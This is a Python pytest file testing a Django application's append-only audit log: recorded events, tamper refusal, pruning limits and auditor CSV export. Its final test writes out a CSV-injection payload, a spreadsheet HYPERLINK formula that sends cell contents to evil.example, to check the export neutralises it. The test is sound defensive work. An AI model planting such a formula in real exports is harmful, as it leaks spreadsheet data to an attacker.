"""The audit log: what is recorded, that nobody can change it, pruning, CSV export."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection, transaction
from django.db.utils import DatabaseError
from django.test import Client
from django.utils import timezone

from accounts import operations
from accounts.audit import ACTION_LABELS, client_ip, record
from accounts.models import AuditEvent, AuditLogIsAppendOnly, User
from accounts.roles import ADMINISTRATOR, AUDITOR, EDITOR, REVIEWER, SIGNER
from bulletins.workflow import TRANSITIONS

from .factories import STRONG_PASSWORD, make_audit_event, make_staff

pytestmark = pytest.mark.django_db

ADDRESS = "10.3.3.3"


def actions():
    return list(AuditEvent.objects.order_by("id").values_list("action", flat=True))


def last(action):
    return AuditEvent.objects.filter(action=action).latest("id")


def post_login(client, username, password):
    return client.post("/admin/login/", {"username": username, "password": password}, REMOTE_ADDR=ADDRESS)


# What is recorded -----------------------------------------------------------

def test_login_is_recorded_with_user_and_address(client):
    user = make_staff(EDITOR)
    post_login(client, user.username, STRONG_PASSWORD)
    event = last("login")
    assert (event.user, event.username, event.ip_address, event.outcome) == (user, user.username, ADDRESS, "success")


def test_failed_login_is_recorded_with_the_username_tried(client):
    post_login(client, "nobody", "wrong-password")
    event = last("login_failed")
    assert (event.username, event.ip_address, event.outcome) == ("nobody", ADDRESS, "failure")


def test_lockout_is_recorded(client):
    user = make_staff(EDITOR)
    for _ in range(5):
        post_login(client, user.username, "wrong-password")
    assert last("lockout").username == user.username


def test_logout_is_recorded(client):
    user = make_staff(EDITOR)
    post_login(client, user.username, STRONG_PASSWORD)
    client.post("/admin/logout/", REMOTE_ADDR=ADDRESS)
    assert last("logout").user == user


def test_account_creation_in_the_admin_is_recorded_with_its_roles(client):
    admin = make_staff(ADMINISTRATOR)
    client.force_login(admin)
    client.post("/admin/accounts/user/add/", {"username": "zhaolei", "real_name": "赵磊", "unit": "", "phone": "",
                                              "email": "", "groups": []})
    event = last("account.create")
    assert (event.user, event.object_repr, event.detail) == (admin, "赵磊（zhaolei）", "角色：无")


def test_role_change_is_recorded_with_before_and_after(client):
    from django.contrib.auth.models import Group

    user = make_staff(EDITOR, real_name="王芳")
    client.force_login(make_staff(ADMINISTRATOR))
    client.post(f"/admin/accounts/user/{user.pk}/change/", {
        "username": user.username, "real_name": "王芳", "unit": "", "phone": "", "email": "",
        "groups": [Group.objects.get(name=REVIEWER).pk], "is_active": "on",
    })
    assert last("account.roles_changed").detail == "原角色：编辑；新角色：审核"


def test_deactivation_is_recorded():
    user = make_staff(EDITOR)
    operations.deactivate(user, by=make_staff(ADMINISTRATOR))
    assert last("account.deactivate").object_id == str(user.pk)


def test_deactivation_in_the_account_form_is_recorded(client):
    user = make_staff(EDITOR, real_name="王芳")
    client.force_login(make_staff(ADMINISTRATOR))
    client.post(f"/admin/accounts/user/{user.pk}/change/", {
        "username": user.username, "real_name": "王芳", "unit": "", "phone": "", "email": "", "groups": [],
    })
    assert last("account.deactivate").object_id == str(user.pk)


def test_password_reset_is_recorded():
    user = make_staff(EDITOR)
    admin = make_staff(ADMINISTRATOR)
    operations.reset_password(user, by=admin)
    assert last("account.password_reset").user == admin


def test_unlock_is_recorded():
    user = make_staff(EDITOR)
    operations.unlock(user, by=make_staff(ADMINISTRATOR))
    assert last("account.unlock").object_id == str(user.pk)


def test_own_password_change_is_recorded(client):
    user = make_staff(EDITOR)
    client.force_login(user)
    client.post("/admin/password_change/", {"old_password": STRONG_PASSWORD, "new_password1": "Brand-New-Secret-9",
                                            "new_password2": "Brand-New-Secret-9"})
    assert last("password_change").user == user


def test_record_keeps_object_type_id_and_name():
    user = make_staff(EDITOR, username="liming", real_name="李明")
    event = record("workflow.submit", user=user, obj=user, detail="提交审核")
    assert (event.object_type, event.object_id, event.object_repr) == ("accounts.User", str(user.pk), "李明（liming）")


# Client address -------------------------------------------------------------

def test_client_address_ignores_forwarded_for_by_default(rf):
    request = rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="1.2.3.4")
    assert client_ip(request) == "10.0.0.1"


def test_client_address_reads_the_configured_proxy_header(rf, settings):
    settings.WENMING_CLIENT_IP_HEADER = "HTTP_X_REAL_IP"
    request = rf.get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_REAL_IP="198.51.100.4")
    assert client_ip(request) == "198.51.100.4"


def test_client_address_falls_back_when_the_header_is_garbage(rf, settings):
    settings.WENMING_CLIENT_IP_HEADER = "HTTP_X_REAL_IP"
    request = rf.get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_REAL_IP="<script>")
    assert client_ip(request) == "127.0.0.1"


# Append-only ----------------------------------------------------------------

def test_saving_an_existing_record_is_refused():
    event = make_audit_event()
    event.action = "forged"
    with pytest.raises(AuditLogIsAppendOnly):
        event.save()


def test_deleting_a_record_is_refused():
    with pytest.raises(AuditLogIsAppendOnly):
        make_audit_event().delete()


def test_queryset_update_is_refused():
    make_audit_event()
    with pytest.raises(AuditLogIsAppendOnly):
        AuditEvent.objects.update(action="forged")


def test_queryset_delete_is_refused():
    make_audit_event()
    with pytest.raises(AuditLogIsAppendOnly):
        AuditEvent.objects.all().delete()


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigger is PostgreSQL's")
@pytest.mark.parametrize("sql", ["UPDATE accounts_auditevent SET action = 'forged'", "DELETE FROM accounts_auditevent"])
def test_database_refuses_raw_update_and_delete(sql):
    make_audit_event()
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(sql)


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigger is PostgreSQL's")
def test_database_refuses_pruning_recent_records_even_with_the_prune_flag():
    make_audit_event()
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL wenming.audit_prune = 'on'")
        cursor.execute("DELETE FROM accounts_auditevent")


ROLES = [EDITOR, REVIEWER, SIGNER, ADMINISTRATOR, AUDITOR]


def every_user():
    users = [make_staff(role) for role in ROLES]
    return users + [User.objects.create_superuser("root", password="Root-Secret-2026")]


def test_nobody_can_change_a_record_in_the_admin():
    event = make_audit_event()
    for user in every_user():
        client = Client()
        client.force_login(user)
        client.post(f"/admin/accounts/auditevent/{event.pk}/change/", {"action": "forged"})
    event.refresh_from_db()
    assert event.action == "login"


def test_nobody_can_delete_a_record_in_the_admin():
    event = make_audit_event()
    for user in every_user():
        client = Client()
        client.force_login(user)
        client.post(f"/admin/accounts/auditevent/{event.pk}/delete/", {"post": "yes"})
    assert AuditEvent.objects.filter(pk=event.pk).exists()


def test_audit_admin_grants_no_add_change_or_delete_even_to_a_superuser(rf):
    from django.contrib import admin

    request = rf.get("/")
    request.user = User.objects.create_superuser("root", password="Root-Secret-2026")
    model_admin = admin.site._registry[AuditEvent]
    assert not any([model_admin.has_add_permission(request), model_admin.has_change_permission(request),
                    model_admin.has_delete_permission(request)])


# Pruning --------------------------------------------------------------------

def test_prune_refuses_fewer_than_180_days():
    with pytest.raises(CommandError, match="至少保留 180 天"):
        call_command("prune_audit_log", "--older-than-days", "179")


def test_prune_deletes_older_records_and_keeps_newer_ones():
    now = timezone.now()
    old = make_audit_event(created_at=now - datetime.timedelta(days=400))
    kept = make_audit_event(created_at=now - datetime.timedelta(days=100))
    call_command("prune_audit_log", "--older-than-days", "365", stdout=io.StringIO())
    remaining = set(AuditEvent.objects.values_list("pk", flat=True))
    assert old.pk not in remaining and kept.pk in remaining


def test_prune_is_itself_recorded():
    call_command("prune_audit_log", "--older-than-days", "180", stdout=io.StringIO())
    assert actions() == ["audit.prune"]


# Browsing and export --------------------------------------------------------

@pytest.fixture
def auditor_client(client):
    client.force_login(make_staff(AUDITOR))
    return client


def exported_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_auditor_filters_the_log_by_action(auditor_client):
    make_audit_event("login", username="alice")
    make_audit_event("logout", username="bobby")
    content = auditor_client.get("/admin/accounts/auditevent/?action=logout").content.decode()
    assert "bobby" in content and "alice" not in content


def test_csv_export_has_chinese_headers_and_a_bom(auditor_client):
    make_audit_event("login", username="alice", ip_address="10.9.9.9")
    rows = exported_rows(auditor_client.get("/admin/accounts/auditevent/export/"))
    assert rows[0] == ["时间", "用户名", "客户端地址", "操作", "对象类型", "对象ID", "对象", "结果", "详情"]


def test_csv_export_contains_the_records(auditor_client):
    make_audit_event("login", username="alice", ip_address="10.9.9.9",
                     created_at=datetime.datetime(2026, 5, 1, 2, 0, tzinfo=datetime.UTC))
    rows = exported_rows(auditor_client.get("/admin/accounts/auditevent/export/?q=alice"))
    assert rows[1] == ["2026-05-01 10:00:00", "alice", "10.9.9.9", "登录", "", "", "", "成功", ""]


def test_csv_export_follows_the_filters(auditor_client):
    make_audit_event("login", username="alice")
    make_audit_event("logout", username="bobby")
    rows = exported_rows(auditor_client.get("/admin/accounts/auditevent/export/?action=logout"))
    assert [row[1] for row in rows[1:]] == ["bobby"]


def test_export_is_itself_recorded(auditor_client):
    auditor_client.get("/admin/accounts/auditevent/export/")
    assert last("audit.export").outcome == "success"


def test_administrator_cannot_export(client):
    client.force_login(make_staff(ADMINISTRATOR))
    assert client.get("/admin/accounts/auditevent/export/").status_code == 403


def test_attempts_during_a_lock_are_recorded_as_refused_without_a_new_lockout(client):
    user = make_staff(EDITOR)
    for _ in range(5):
        post_login(client, user.username, "wrong-password")
    post_login(client, user.username, STRONG_PASSWORD)
    assert AuditEvent.objects.filter(action="lockout").count() == 1
    assert last("login_failed").detail == "账号处于锁定期间"


def test_every_action_the_code_records_has_a_chinese_label():
    root = Path(__file__).resolve().parents[1]
    sources = [path.read_text(encoding="utf-8") for app in ("accounts", "bulletins") for path in (root / app).rglob("*.py")]
    recorded = {code for text in sources for code in re.findall(r'record\(\s*"([a-z_.]+)"', text)}
    recorded |= {f"workflow.{action}" for action in TRANSITIONS}
    assert recorded - set(ACTION_LABELS) == set()


def test_a_formula_typed_as_a_failed_login_username_reaches_the_csv_as_text(client):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    client.post("/admin/login/", {"username": hostile, "password": "wrong"})
    client.force_login(make_staff(AUDITOR))
    rows = exported_rows(client.get("/admin/accounts/auditevent/export/?action=login_failed"))
    assert [row[1] for row in rows[1:]] == ["'" + hostile]
